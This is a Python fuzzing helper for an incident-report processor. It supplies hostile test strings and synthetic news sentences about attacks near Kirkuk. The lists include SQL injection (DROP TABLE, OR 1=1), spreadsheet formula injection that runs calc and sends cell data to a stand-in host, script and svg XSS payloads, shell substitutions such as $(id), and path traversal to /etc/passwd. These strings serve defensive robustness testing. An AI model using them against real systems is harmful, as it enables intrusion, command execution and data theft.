"""Hostile words and texts, the same for each throw of the dice: what an attacker would write, and what careless
programs leave in files."""

import random

from nonsense import nonsense

FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
            " =1+1", "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1+1",
            "\ufeff=1+1", "'=1+1", "\";=1+1;\"", "%=1+1", "|=1+1")
QUERIES = ("'); DROP TABLE incidents; --", "' OR '1'='1", "\" OR \"\"=\"", "\\'; SELECT 1; --",
           "a' /* dateline:end */) OR (1=1", "(/* dateline:begin */ 1 /* dateline:end */)", "%' ESCAPE '!' OR 1=1 --",
           "_%!", "$$; DROP SCHEMA dateline; $$", "\x00'; --", "Robert\"); DROP TABLE \"incidents")
EXPRESSIONS = ("[% eval('1+1') %]", "[% @project_path %]", "[%1+1%]", "%] [% env('HOME') %] [%", "@user_account_name",
               "$geometry", "\"title\"", "eval('1')", "aggregate('incidents','count',1)", "%1", "{0}",
               "{x.__class__}", "%s%n", "${HOME}", "$(id)", "`id`")
MARKUP = ("<b>bold</b>", "<img src=file:///etc/hostname>", "<img src='http://a.example/x.png'>",
          "<a href='javascript:alert(1)'>x</a>", "<a href=\"file:///etc/passwd\">y</a>", "<script>alert(1)</script>",
          "<svg onload=alert(1)>", "<iframe src=http://a.example></iframe>", "<table><tr><td>cell",
          "</div></td></table>", "<!-- ", "]]>", "<![CDATA[", "&lt;b&gt;", "&amp;lt;", "&#0;", "&#xD800;",
          "&#x110000;", "&unknown;", "<style>*{display:none}</style>",
          "<meta http-equiv=refresh content='0;url=http://a.example'>", "<h1 style='font-size:400px'>x</h1>",
          "<font color=red>x</font>", "<", ">", "<>", "< b >", "<br/>")
PATHS = ("../../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\Windows\\win.ini", "//server/share/x",
         "\\\\server\\share", "file:///etc/passwd", "/vsicurl/http://a.example/x", "/vsizip//tmp/a.zip/b", "con.txt",
         "nul", "a/b/c", ".", "..", "~/x", "a\x00b", "x" * 300)
SIGNS = ("\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u200e", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad",
         "\u034f", "\u180e", "\ufffc", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "\x00", "\x08",
         "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x85", "\u2028", "\u2029", "\u00a0", "\u3000", "\ud800", "\udc80",
         "\udfff", "e" + "\u0301" * 40, "\u0130", "ß", "ﬁ", "ſ", "K", "²", "①", "Ⅷ", "٣", "۷", "७", "𝟕", "½", "一",
         "ː", "ʼ")
FIGURES = ("0", "-1", "1e999", "NaN", "inf", "-0", "9" * 30, "9" * 400, "1" + "0" * 5000, "0x1F", "1_000",
           "1,000,000,000,000", "1.000.000", "12,3,4", "³", "٣٤", "１２", "1/0", "99999999999999999999999999",
           "2147483648", "9223372036854775808", "-9223372036854775809", "one hundred million billion",
           "a thousand thousand thousand", "half a dozen dozen", "zero", "minus five", "3½", "10^9", "1e-400")
DAYS = ("0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2022-02-30", "31 February 2022", "29 Feb 1900",
        "1 Jan 0001", "31 Dec 9999", "99/99/9999", "12/13/14", "yesterday", "400 years ago", "9999999999 days ago",
        "next Friday", "the 32nd of May", "in the year 0", "Muharram 1, 0001", "30 Safar 9999", "1 Farvardin 9378",
        "-1-1-1", "2022-12-18T25:61:61Z", "20221318", "18 Dec -2022", "last century", "three weeks ago on Sunday",
        "between 1 January 0001 and 31 December 9999")
POINTS = ("91, 181", "-90.0001, 0", "NaN, NaN", "inf, inf", "1e308, 1e308", "35.46N 44.39E", "44°99'99\"N 999°E",
          "0, 0", "POINT (1e400 2)", "POINT EMPTY", "38S MB 12345 67890", "35,46;44,39", "35°28′05″N 44°23′31″E",
          "++1, --1", "1" * 90 + ", 2", "N N N N", "٣٥٫٤٦, ٤٤٫٣٩", "35.46 N, 44.39 N", "35.46, 44.39, 12",
          "SRID=4326;POINT(44 35)")
NAMES = ("Kirkuk", "Daquq", "al-Muqdadiyah", "كركوك", "Кіровоград", "Al-" * 50, "-", "'", "al-", "ال", "Bani " * 60,
         "X", "Sa'd al-Sa'd", "Tal 'Afar", "Tall`Afar", "New York", "a b c d e f g h i j k l m n o p", "İstanbul",
         "ISTANBUL", "北京", "Москва", "नई दिल्ली", "ქ", "𝕂𝕚𝕣𝕜𝕦𝕜", "Ｋｉｒｋｕｋ", "Kirkuk\u202e", "K\u200bi\u200br\u200bkuk",
         "Кirkuk")
TAMES = ("Gunmen", "police", "Islamic State", "soldiers", "civilians", "a roadside bomb", "on Sunday", "in Daquq",
         "near Kirkuk", "the village of Shalal al-Matar", "killed", "wounded", "kidnapped")
KINDS = (FORMULAS, QUERIES, EXPRESSIONS, MARKUP, PATHS, SIGNS, FIGURES, DAYS, POINTS, NAMES, TAMES)

_SENTENCES = ("Gunmen killed {n} soldiers in {place} on {day}. ", "A bomb wounded {n} people near {place}, {place}. ",
              "{who} attacked {whom} {n} km south of {place} {day}, police said. ",
              "{who}, called {who}, shot dead {n} and {n} {whom} between {place} and {place}. ",
              "At least {n} {whom} were kidnapped from the village of {place} in {place} province. ",
              "({day}) {who} claimed the attack that killed {n} of {whom}. ", "{place}, {day} ({who}) - {n} died. ",
              "“{who} killed {n},” {whom} said in {place}. ", "قتل {n} من {whom} في {place} {day}. ")
_BOMBS = ("(", "[", "{", "\"", "'", "<", "<div>", "</div>", "&", "a ", "A", "1,", "killed ", "two of them ",
          "in Kirkuk, ", "Dec. ", ".", "\n", "\n\n", "-", "—", "al-", "é", "ال", "\u0301", "\u202e",
          "in the village of ", "and ", "of the ", "one hundred and ", "km south of ", "2022-12-18 ", "by the ",
          "<![CDATA[", "Islamic State ", "x\n", "?", "\t")


def word(dice: random.Random) -> str:
    """One hostile word, or several glued together."""
    made = dice.choice(dice.choice(KINDS))
    while dice.random() < 0.2:
        made += dice.choice(("", " ", ";", ",", "\n")) + dice.choice(dice.choice(KINDS))
    return made


def sentence(dice: random.Random) -> str:
    """A sentence that tells an incident, of which some words are hostile."""
    def said(usual, *kinds):
        return dice.choice(usual) if dice.random() < 0.5 else dice.choice(dice.choice(kinds or KINDS))

    told = dice.choice(_SENTENCES)
    for slot, usual, kinds in (("{n}", ("two", "7", "at least 12", "dozens of"), (FIGURES,)),
                               ("{day}", ("on Sunday", "on Dec. 18", "last week", "on 3 May 2021"), (DAYS,)),
                               ("{place}", NAMES[:4], ()), ("{who}", TAMES[:3], ()), ("{whom}", TAMES[3:5], ())):
        while slot in told:
            told = told.replace(slot, said(usual, *kinds), 1)
    return told


def text(dice: random.Random, most: int = 6000) -> str:
    """A text of at most so many characters: sentences, nonsense, a bomb of one piece, or a mixture."""
    size = dice.choice((0, 1, 40, 400, 2000, most))
    kind = dice.random()
    if kind < 0.5:
        made = "".join(sentence(dice) for _ in range(size // 60 + 1))
    elif kind < 0.7:
        made = nonsense(dice.randrange(1 << 30), size // 8 + 1)
    elif kind < 0.85:
        piece = dice.choice(_BOMBS)
        made = piece * (size // len(piece) + 1)
    else:
        made = "".join(dice.choice((sentence, word))(dice) for _ in range(size // 40 + 1))
    return made[:most]
